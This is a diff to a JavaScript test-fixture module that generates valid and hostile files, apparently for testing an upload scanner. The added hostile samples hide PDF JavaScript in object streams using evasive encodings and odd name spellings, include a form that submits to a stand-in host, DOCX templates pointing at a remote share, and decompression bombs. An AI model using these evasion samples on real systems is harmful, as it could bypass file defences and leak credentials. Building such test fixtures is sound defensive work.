@@ -1,5 +1,6 @@
 // Files made for tests: small and valid ones of every kind, and hostile ones. Nothing here is anybody's.
 
+import { readFileSync } from "node:fs";
 import { crc32, deflateRawSync, deflateSync } from "node:zlib";
 
 const u16 = (n) => Buffer.from([n & 255, (n >> 8) & 255]);
@@ -74,8 +75,17 @@ export function pdf(inside = "", trailer = "") {
   return Buffer.concat(parts);
 }
 
+const stream = (dictionary, data) => Buffer.concat([Buffer.from(`9 0 obj\n<< ${dictionary} >>\nstream\n`), data, Buffer.from("\nendstream\nendobj\n")]);
 /** Objects packed in a stream, as newer PDFs have them. */
-const packedObjects = (objects) => Buffer.concat([Buffer.from("9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n"), deflateSync(Buffer.from(objects)), Buffer.from("\nendstream\nendobj\n")]);
+const packedObjects = (objects, dictionary = "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", options = {}) => stream(dictionary, deflateSync(Buffer.from(objects), options));
+const SCRIPT = "1 0 << /S /JavaScript /JS (app.alert(1)) >>";
+/** Two kilobytes of window: the packed data begins with the digit 8. */
+const digitFirst = () => packedObjects(SCRIPT, undefined, { windowBits: 11 });
+const inHex = (data) => Buffer.from(`${data.toString("hex")}>`);
+const objStm = (filter) => `/Type /ObjStm /N 1 /First 4 ${filter}`;
+
+/** A file from life, made up for these tests. */
+const fixture = (name) => readFileSync(new URL(`../../fixtures/cases/${name}`, import.meta.url));
 
 const chunk = (name, data) => Buffer.concat([be32(data.length), Buffer.from(name), data, be32(crc32(Buffer.concat([Buffer.from(name), data])))]);
 /** A PNG; the measures in its header can lie. */
@@ -127,6 +137,9 @@ const webpOf = (width, height) => {
   return Buffer.concat([Buffer.from("RIFF"), u32(content.length), content]);
 };
 
+/** A document that names its template. */
+const template = (target) => docx(["word/_rels/settings.xml.rels", rels(rel("attachedTemplate", target, ' TargetMode="External"'))]);
+
 /** One valid file of every kind. */
 export const GOOD = { pdf: pdf(), jpg: jpeg(), png: png(), webp: webp(), docx: docx(), xlsx: xlsx() };
 
@@ -141,6 +154,17 @@ export const legitimate = () => [
   { label: "a PDF with a link", kind: "pdf", name: "tautan.pdf", content: pdf("8 0 obj << /S /URI /URI (https://contoh.example/) >> endobj") },
   { label: "a photo of twelve megapixels", kind: "jpg", name: "besar.jpg", content: jpegOf(4_000, 3_000) },
   { label: "an extended webp", kind: "webp", name: "contoh.webp", content: webpOf(1_600, 1_200) },
+  { label: "a PDF with a byte order mark before it", kind: "pdf", name: "bom-first.pdf", content: fixture("bom-first.pdf") },
+  { label: "a PDF with blank lines before it", kind: "pdf", name: "baris.pdf", content: Buffer.concat([Buffer.from("\r\n \0"), GOOD.pdf]) },
+  { label: "a PDF with padding after its end", kind: "pdf", name: "imbuhan.pdf", content: Buffer.concat([GOOD.pdf, Buffer.alloc(5_000), Buffer.from("\r\n\x1a")]) },
+  { label: "a PDF with a comment after its end", kind: "pdf", name: "komentar.pdf", content: Buffer.concat([GOOD.pdf, Buffer.from("% contoh\n")]) },
+  { label: "a PDF with a small window of packing", kind: "pdf", name: "jendela.pdf", content: pdf(packedObjects("1 0 << /Type /Page >>", undefined, { windowBits: 11 })) },
+  { label: "a PDF with objects in a stream that is not packed", kind: "pdf", name: "polos.pdf", content: pdf(stream("/Type /ObjStm /N 1 /First 4", Buffer.from("1 0 << /Type /Page >>"))) },
+  { label: "a PDF with texts, comments and a picture", kind: "pdf", name: "gambar.pdf", content: pdf(Buffer.concat([Buffer.from("% catatan (\n7 0 obj << /Title (Surat \\( (dinas) >>) /Hex <0aFF> /N 3 >> endobj\n"), stream("/Subtype /Image /Filter /DCTDecode", JPEG)])) },
+  { label: "another plain PDF", kind: "pdf", name: "plain.pdf", content: fixture("plain.pdf") },
+  { label: "another plain workbook", kind: "xlsx", name: "plain.xlsx", content: fixture("plain.xlsx") },
+  { label: "a document with a template on the own disk", kind: "docx", name: "local-template.docx", content: fixture("local-template.docx") },
+  { label: "a document with a template by its name", kind: "docx", name: "templat.docx", content: template("Kop%20Surat.dotx") },
   { label: "a photo with padding after its end", kind: "jpg", name: "imbuhan.jpg", content: Buffer.concat([JPEG, Buffer.alloc(8)]) },
 ];
 
@@ -151,6 +175,12 @@ const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1
 const lockedOffice = Buffer.concat([Buffer.from("d0cf11e0a1b11ae1", "hex"), Buffer.alloc(504), Buffer.from("EncryptedPackage", "utf16le"), Buffer.alloc(96), Buffer.from("EncryptionInfo", "utf16le"), Buffer.alloc(1000)]);
 const oldOffice = Buffer.concat([Buffer.from("d0cf11e0a1b11ae1", "hex"), Buffer.alloc(504), Buffer.from("WordDocument", "utf16le"), Buffer.alloc(1000)]);
 const half = (content) => content.subarray(0, content.length >> 1);
+
+const twoMains = () => {
+  const parts = docxParts();
+  parts[0] = ["[Content_Types].xml", types("word/document.xml", WORD, `<Override PartName="/word/other.xml" ContentType="${WORD}"/>`)];
+  return zip([...parts, ["word/other.xml", "<x/>"]]);
+};
 
 const one = (label, kind, content, name = `contoh.${kind}`) => ({ label, kind, name, content: bytes(content) });
 
@@ -184,6 +214,34 @@ export function hostile() {
     one("a PDF that starts a program", "pdf", pdf("8 0 obj << /S /Launch /F (cmd.exe) >> endobj")),
     one("a PDF with a file in it", "pdf", pdf("8 0 obj << /Type /EmbeddedFile >> endobj")),
     one("a PDF whose objects unfold without end", "pdf", pdf(packedObjects(Buffer.alloc(6_000_000, " ")))),
+    one("HTML after a PDF", "pdf", Buffer.concat([GOOD.pdf, html])),
+    one("a zip after a PDF", "pdf", Buffer.concat([GOOD.pdf, GOOD.docx])),
+    one("a PDF that only its owner may change", "pdf", fixture("owner-password-only.pdf")),
+    one("a script among packed objects that begin with a digit", "pdf", pdf(digitFirst())),
+    one("a script packed in hexadecimal digits", "pdf", pdf(stream(objStm("/Filter [/ASCIIHexDecode /FlateDecode]"), inHex(deflateSync(Buffer.from(SCRIPT)))))),
+    one("a script packed in hexadecimal digits alone", "pdf", pdf(stream(objStm("/Filter /ASCIIHexDecode"), inHex(Buffer.from(SCRIPT))))),
+    one("a script packed twice", "pdf", pdf(stream(objStm("/Filter [/FlateDecode /FlateDecode]"), deflateSync(deflateSync(Buffer.from(SCRIPT)))))),
+    one("a script packed with a filter named elsewhere", "pdf", pdf(stream(objStm("/Filter 7 0 R"), deflateSync(Buffer.from(SCRIPT))))),
+    one("a script packed with parameters", "pdf", pdf(packedObjects(SCRIPT, objStm("/Filter /FlateDecode /DecodeParms << /Predictor 12 >>")))),
+    one("a script in packed objects that do not say their type", "pdf", pdf(packedObjects(SCRIPT, "/N 1 /First 4 /Filter /FlateDecode"))),
+    one("a script in packed objects behind a comment", "pdf", pdf(Buffer.concat([Buffer.from("9 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >> % stream\nstream\n"), deflateSync(Buffer.from(SCRIPT)), Buffer.from("\nendstream endobj")]))),
+    one("packed objects hidden in a text", "pdf", pdf(Buffer.concat([Buffer.from("8 0 obj ("), packedObjects(SCRIPT), Buffer.from(") endobj")]))),
+    one("packed objects hidden in another stream", "pdf", pdf(stream("/Length 9999", packedObjects(SCRIPT)))),
+    one("packed objects with a stream in a text of their dictionary", "pdf", pdf(packedObjects(SCRIPT, objStm("/X (stream\nx\nendstream) /Filter /FlateDecode")))),
+    one("packed objects cut before their end", "pdf", pdf(stream(objStm("/Filter /FlateDecode"), half(deflateSync(Buffer.from(SCRIPT.repeat(20))))))),
+    one("packed objects spelled oddly", "pdf", pdf(packedObjects(SCRIPT, "/#54ype /Obj#53tm /N 1 /First 4 /F#69lter /Fl#61teDecode"))),
+    one("a form of the XFA kind", "pdf", pdf("8 0 obj << /AcroForm << /XFA 9 0 R >> >> endobj")),
+    one("a form of the XFA kind spelled oddly", "pdf", pdf("8 0 obj << /AcroForm << /#58F#41 [(a) 9 0 R] >> >> endobj")),
+    one("a form of the XFA kind among packed objects", "pdf", pdf(packedObjects("1 0 << /XFA 9 0 R >>"))),
+    one("a form that sends itself", "pdf", pdf("8 0 obj << /S /SubmitForm /F (https://jahat.example) >> endobj")),
+    one("a PDF with a file spelled oddly", "pdf", pdf("8 0 obj << /Type /#45mbedded#46ile >> endobj")),
+    one("a PDF that says nothing but packed objects", "pdf", pdf("/ObjStm ".repeat(200_000) + "stream\n")),
+    one("packed objects that unfold to too much together", "pdf", pdf(Buffer.concat(Array.from({ length: 7 }, () => packedObjects(Buffer.alloc(4_000_000, " ")))))),
+    one("a PDF with objects beyond number", "pdf", pdf("1 0 obj endobj\n".repeat(250_001))),
+    one("a template on a share", "docx", template("file:///\\\\jahat.example\\t.dotx")),
+    one("a template on a server", "docx", template("file://jahat.example/t.dotx")),
+    one("a template on a share, in signs", "docx", template("&#92;&#92;jahat.example\\t.dotx")),
+    one("a document with two main parts", "docx", twoMains()),
     one("a document under a password", "docx", lockedOffice),
     one("a workbook under a password", "xlsx", lockedOffice),
     one("a document with locked entries", "docx", docx(["word/media/1.txt", "x", { flags: 1 }])),
